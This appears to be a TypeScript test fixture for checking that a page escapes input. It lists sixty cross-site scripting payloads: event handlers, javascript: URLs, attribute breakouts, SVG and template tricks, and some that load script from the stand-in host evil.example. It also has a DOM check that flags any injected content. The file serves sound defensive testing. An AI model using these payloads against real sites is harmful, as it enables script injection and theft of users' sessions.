/** What a script that runs leaves behind. */
const STRIKE = 'window.struck=1';

/** Sixty ways to get a script out of words: elements, handlers, addresses, ways out of attributes, text areas, titles and comments, and what decodes late. */
export const SCRIPT_FORMS: readonly string[] = [
  `<script>${STRIKE}</script>`,
  `</script><script>${STRIKE}</script>`,
  `<SCRIPT>${STRIKE}</SCRIPT>`,
  `<script/x>${STRIKE}</script/x>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${STRIKE}</script>`,
  `<scr<script>ipt>${STRIKE}</scr</script>ipt>`,
  `<<script>${STRIKE};//<</script>`,
  `<script\t>${STRIKE}</script\t>`,
  `<noscript><p title="</noscript><script>${STRIKE}</script>">`,
  `<img src=x onerror=${STRIKE}>`,
  `<img src=x onerror="${STRIKE}">`,
  `<img/src=x/onerror=${STRIKE}>`,
  `<IMG SRC=x OnErRoR=${STRIKE}>`,
  `<img src="x\`" onerror=${STRIKE}>`,
  `<image href=x onerror=${STRIKE}>`,
  `<svg onload=${STRIKE}>`,
  `<svg/onload=${STRIKE}>`,
  `<svg><script>${STRIKE}</script></svg>`,
  `<svg><a xlink:href="javascript:${STRIKE}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${STRIKE} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${STRIKE}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${STRIKE}>#x"/>`,
  `<svg><foreignObject><body onload=${STRIKE}></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${STRIKE}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src onerror=${STRIKE}>`,
  `<video src=x onerror=${STRIKE}>`,
  `<audio src=x onerror=${STRIKE}>`,
  `<video><source onerror=${STRIKE}></video>`,
  `<body onload=${STRIKE}>`,
  `<body onpageshow=${STRIKE}>`,
  `<details open ontoggle=${STRIKE}>`,
  `<input autofocus onfocus=${STRIKE}>`,
  `<select autofocus onfocus=${STRIKE}>`,
  `<marquee onstart=${STRIKE}>`,
  `<p style="animation:x" onanimationstart=${STRIKE}>`,
  `<p onmouseover=${STRIKE}>here</p>`,
  `<a href="javascript:${STRIKE}">x</a>`,
  `<a href=" javascript:${STRIKE}">x</a>`,
  `<a href="java&#10;script:${STRIKE}">x</a>`,
  `<a href="data:text/html,<script>parent.${STRIKE}</script>">x</a>`,
  `<form action=https://evil.example><button formaction="javascript:${STRIKE}">x`,
  `<iframe srcdoc="<script>parent.${STRIKE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${STRIKE}"></iframe>`,
  `<object data="javascript:${STRIKE}"></object>`,
  `<embed src="javascript:${STRIKE}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${STRIKE}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `"><script>${STRIKE}</script>`,
  `'><img src=x onerror=${STRIKE}>`,
  `" onfocus="${STRIKE}" autofocus="`,
  `' onmouseover='${STRIKE}`,
  `</textarea><script>${STRIKE}</script>`,
  `</title><script>${STRIKE}</script>`,
  `--><script>${STRIKE}</script><!--`,
  `&lt;script&gt;${STRIKE}&lt;/script&gt;`,
  `{{constructor.constructor('${STRIKE}')()}}\${${STRIKE}}`,
  `[x](javascript:${STRIKE}) ![x](x" onerror="${STRIKE})`,
];

/**
 * Everything of a page that could run or lead away and is not the site's own: counted in the DOM that the browser made, where escaping has already
 * worked or failed. `style` is the site's own in documents only, with their nonce.
 */
export const LIVE = `[...document.querySelectorAll('*')].filter((one) => {
  const name = one.localName;
  if (name === 'script') return one.getAttribute('src') !== '/assets/app.js';
  if (name === 'style') return one.nonce === '';
  if (name === 'link') return one.href !== '' && new URL(one.href).protocol !== 'data:' && new URL(one.href).origin !== location.origin;
  if (['iframe', 'object', 'embed', 'base', 'math', 'img', 'image', 'audio', 'video', 'foreignObject', 'use', 'marquee'].includes(name)) return true;
  if (name === 'meta' && one.httpEquiv !== '') return true;
  return [...one.attributes].some(({ name: attribute, value }) =>
    attribute.startsWith('on') || attribute === 'formaction' || attribute === 'srcdoc' ||
    (/(?:^|:)(?:href|src|action|to)$/.test(attribute) && /^\\s*(?:javascript|data:text)/i.test(value.replace(/[\\s]/g, ''))) ||
    (attribute === 'action' && new URL(value, location.href).origin !== location.origin));
}).map((one) => one.outerHTML.slice(0, 80))`;
